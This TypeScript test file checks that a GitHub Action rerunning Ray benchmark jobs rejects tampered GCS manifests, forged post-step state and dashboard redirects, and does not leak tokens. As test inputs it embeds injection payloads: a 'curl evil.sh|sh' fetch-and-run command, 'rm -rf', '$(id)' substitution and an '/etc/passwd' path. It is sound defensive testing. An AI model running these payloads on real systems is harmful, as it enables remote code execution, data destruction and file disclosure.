// What someone who can write the bucket, the job's output or the step's state could make the
// built action do, and that it does not: each case is the reviewed attack, run through dist/ as
// the runner runs it.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { StepResult } from '../../tools/harness/run-action.mjs';
import type { RaySim } from '../../tools/ray-sim/server.mjs';
import { demoRepo, errors, removeDir, runAction, TEST_KEYS, tempDir, validInputs, warnings } from '../helpers/action.js';
import { ephemeralInputs, fakeCliEnv, IMAGE_URI } from '../helpers/cluster.js';
import { createBucket, emulatorHost, listAll, makeStorage, readObject, uniqueBucketName } from '../helpers/gcs.js';
import { clusterInputs, startCluster } from '../helpers/ray.js';

type Repo = ReturnType<typeof demoRepo>;
const cleanups: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

interface Recorder {
  url: string;
  hits: string[];
  close(): Promise<void>;
}

/** A server that records every request (method, path, authorization) and answers `answer`. */
async function startRecorder(answer: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<Recorder> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    answer(req, res);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, close: () => new Promise<void>((r) => server.close(() => r())) };
}

/** A recorder that lives until the end of the test. */
async function recorder(answer: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<Recorder> {
  const r = await startRecorder(answer);
  cleanups.push(r.close);
  return r;
}

// The Artifact Registry stand-in: every image exists.
let registry: Recorder;
beforeAll(async () => {
  registry = await startRecorder((_req, res) => res.writeHead(200).end());
});
afterAll(() => registry.close());

/** A committed run (cluster none: nothing dispatched), whose manifest a test then tampers with. */
async function committedRun(extra: Record<string, string> = {}): Promise<{ repo: Repo; bucket: string }> {
  const repo = demoRepo(['credit']);
  cleanups.push(() => removeDir(repo.root));
  const bucket = uniqueBucketName('trust');
  await createBucket(bucket);
  const r = await runAction({
    workspace: repo.workspace,
    inputs: validInputs(repo, { 'dry-run': 'false', 'gcs-bucket': bucket, cluster: 'none', ...extra }),
    env: { ...TEST_KEYS, STORAGE_EMULATOR_HOST: emulatorHost() },
  });
  expect(errors(r)).toBe('');
  return { repo, bucket };
}

async function tamper(bucket: string, change: (m: Record<string, unknown>) => void): Promise<void> {
  const name = 'runs/test-run-0001/manifest.json';
  const m = JSON.parse((await readObject(bucket, name)).toString()) as Record<string, unknown>;
  change(m);
  await makeStorage()
    .bucket(bucket)
    .file(name)
    .save(JSON.stringify(m, null, 2));
}

/** A waited rerun of that run on a per-run cluster, with stand-in CLIs that record their calls. */
async function rerunOnPerRunCluster(workspace: string, bucket: string): Promise<{ r: StepResult; fake: ReturnType<typeof fakeCliEnv> }> {
  const dir = tempDir('fake-cli');
  cleanups.push(() => removeDir(dir));
  const fake = fakeCliEnv(dir);
  const r = await runAction({
    workspace,
    inputs: { 'rerun-run-id': 'test-run-0001', 'gcs-bucket': bucket, ...ephemeralInputs(), wait: 'true' },
    env: { ...TEST_KEYS, ...fake.env, STORAGE_EMULATOR_HOST: emulatorHost(), BIRD_REGISTRY_EMULATOR_HOST: registry.url },
  });
  return { r, fake };
}

describe('a rerun trusts no field of a stored manifest that reaches a command, a request or the keys', () => {
  it.each([
    [
      'a model that is a shell command',
      (m: Record<string, unknown>) => (m.agent_model = 'anthropic/x;curl evil.sh|sh'),
      /agent_model .* is not a LiteLLM model name/,
    ],
    ['an instance id with a comma', (m: Record<string, unknown>) => (m.instance_ids = ['credit_1,evil_1']), /instance_ids holds ids the job cannot take/],
    ['an unknown framework', (m: Record<string, unknown>) => (m.framework = 'rm -rf'), /framework .* is not a known framework/],
    [
      'a storage root with shell characters',
      (m: Record<string, unknown>) => (m.slayer_storage_root = '/data/$(id)'),
      /slayer_storage_root .* is not an in-cluster path/,
    ],
  ])('refuses %s before any request', async (_name, change, why) => {
    const { repo, bucket } = await committedRun();
    await tamper(bucket, change);
    const sim = await startCluster({ bucket });
    cleanups.push(() => sim.close());
    const before = await listAll(bucket, 'runs/test-run-0001/');
    const r = await runAction({
      workspace: repo.workspace,
      inputs: { 'rerun-run-id': 'test-run-0001', 'gcs-bucket': bucket, ...clusterInputs(sim) },
      env: { ...TEST_KEYS, STORAGE_EMULATOR_HOST: emulatorHost() },
    });
    expect(r.exitCode).toBe(1);
    expect(errors(r)).toMatch(/rerun refused/);
    expect(errors(r)).toMatch(why);
    expect(errors(r)).toMatch(/rerun-run-id/);
    expect(sim.requests).toEqual([]);
    expect(await listAll(bucket, 'runs/test-run-0001/')).toEqual(before);
  });

  it('sends no token to an image host the manifest names, and refuses it for a per-run cluster', async () => {
    const { repo, bucket } = await committedRun({ 'gcp-project': 'bird-proj' });
    const evil = await recorder((_req, res) => res.writeHead(200).end());
    for (const image of [`${evil.url.replace('http://', '')}/p/r/runner:tag`, 'us-central1-docker.pkg.dev/someone-elses/bird-interact-runner/runner:tag']) {
      await tamper(bucket, (m) => {
        (m.render_inputs as Record<string, unknown>).image_uri = image;
        (m.render_inputs as Record<string, unknown>).project = 'bird-proj';
      });
      const { r, fake } = await rerunOnPerRunCluster(repo.workspace, bucket);
      expect(r.exitCode).toBe(1);
      expect(errors(r)).toMatch(/not Artifact Registry and not named by image-registries|not in gcp-project 'bird-proj'/);
      expect(fake.calls().filter((c) => c.argv[0] !== '--version')).toEqual([]);
    }
    expect(evil.hits).toEqual([]);
    expect(registry.hits).toEqual([]);
  });

  it('refuses a per-run cluster in a project the manifest names instead of gcp-project', async () => {
    const { repo, bucket } = await committedRun({ 'gcp-project': 'bird-proj' });
    await tamper(bucket, (m) => {
      (m.render_inputs as Record<string, unknown>).image_uri = IMAGE_URI.replace('bird-proj', 'other-proj');
      (m.render_inputs as Record<string, unknown>).project = 'other-proj';
    });
    const { r, fake } = await rerunOnPerRunCluster(repo.workspace, bucket);
    expect(r.exitCode).toBe(1);
    expect(errors(r)).toMatch(/render_inputs.project 'other-proj' is not gcp-project 'bird-proj'/);
    expect(fake.calls().filter((c) => c.argv[0] !== '--version')).toEqual([]);
  });
});

describe('the post step trusts only state of the shape it writes', () => {
  it('never sends ray-headers to a dashboard the saved state names instead of ray-address', async () => {
    const repo = demoRepo(['credit']);
    cleanups.push(() => removeDir(repo.root));
    const evil = await recorder((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"status":"RUNNING"}'));
    const sim: RaySim = await startCluster({ bucket: uniqueBucketName('post') });
    cleanups.push(() => sim.close());
    const r = await runAction({
      workspace: repo.workspace,
      entry: 'post',
      state: { 'submission-id': 'bird-test-run-0001-a1', 'ray-address': evil.url, 'wait-status': 'waiting' },
      inputs: { ...clusterInputs(sim), 'ray-headers': '{"Authorization":"Bearer TESTSECRET-post"}' },
    });
    expect(r.exitCode).toBe(0);
    expect(evil.hits).toEqual([]);
    expect(sim.requests).toEqual([]);
    expect(warnings(r)).toMatch(/the saved dashboard address is not the ray-address input; not contacting it/);
  });

  it('runs no CLI for a saved cluster when the step was not ephemeral, or when the cluster names files outside RUNNER_TEMP', async () => {
    const repo = demoRepo(['credit']);
    const dir = tempDir('fake-cli');
    cleanups.push(
      () => removeDir(repo.root),
      () => removeDir(dir),
    );
    const fake = fakeCliEnv(dir);
    const forged = { v: 1, runId: 'evil-run', yamlPath: '/etc/passwd', rayCli: 'ray', project: 'bird-proj', zone: 'us-central1-a', markerPath: '/tmp/m' };
    const state = { 'ephemeral-cluster': JSON.stringify(forged), 'cluster-teardown': 'pending' };
    const notEphemeral = await runAction({ workspace: repo.workspace, entry: 'post', state, inputs: { cluster: 'none' }, env: fake.env });
    expect(notEphemeral.exitCode).toBe(0);
    const ephemeral = await runAction({ workspace: repo.workspace, entry: 'post', state, inputs: ephemeralInputs(), env: fake.env });
    expect(ephemeral.exitCode).toBe(0);
    expect(warnings(ephemeral)).toMatch(/names files outside RUNNER_TEMP; ignoring it/);
    expect(fake.calls()).toEqual([]);
  });
});

describe('the keys and the dashboard credentials go where they should, and nowhere else', () => {
  it('refuses to send the keys package over plain http to a host that is not loopback, unless allowed', async () => {
    const repo = demoRepo(['credit']);
    cleanups.push(() => removeDir(repo.root));
    const r = await runAction({
      workspace: repo.workspace,
      inputs: validInputs(repo, { 'dry-run': 'true', cluster: 'existing', 'ray-address': 'http://ray-head.example.com:8265' }),
      env: { ...TEST_KEYS },
    });
    expect(r.exitCode).toBe(1);
    expect(errors(r)).toMatch(/ray-address: 'http:\/\/ray-head.example.com:8265' is plain http to a host that is not loopback/);
    expect(errors(r)).toMatch(/allow-insecure-ray-address: true/);
    const allowed = await runAction({
      workspace: repo.workspace,
      inputs: validInputs(repo, {
        'dry-run': 'true',
        cluster: 'existing',
        'ray-address': 'http://ray-head.example.com:8265',
        'allow-insecure-ray-address': 'true',
      }),
      env: { ...TEST_KEYS },
    });
    expect(errors(allowed)).toBe('');
  });

  it('does not follow a redirect from the dashboard with ray-headers', async () => {
    const repo = demoRepo(['credit']);
    cleanups.push(() => removeDir(repo.root));
    const bucket = uniqueBucketName('redirect');
    await createBucket(bucket);
    const elsewhere = await recorder((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"version":"4","ray_version":"2.60.0"}'));
    const redirecting = await recorder((req, res) => res.writeHead(302, { location: `${elsewhere.url}${req.url}` }).end());
    const r = await runAction({
      workspace: repo.workspace,
      inputs: validInputs(repo, {
        'dry-run': 'false',
        'gcs-bucket': bucket,
        cluster: 'existing',
        'ray-address': redirecting.url,
        'ray-headers': '{"X-Proxy-Token":"TESTSECRET-proxy"}',
      }),
      env: { ...TEST_KEYS, STORAGE_EMULATOR_HOST: emulatorHost() },
    });
    expect(r.exitCode).toBe(1);
    expect(redirecting.hits.length).toBeGreaterThan(0);
    expect(elsewhere.hits).toEqual([]);
    expect(await listAll(bucket)).toEqual([]);
  });
});
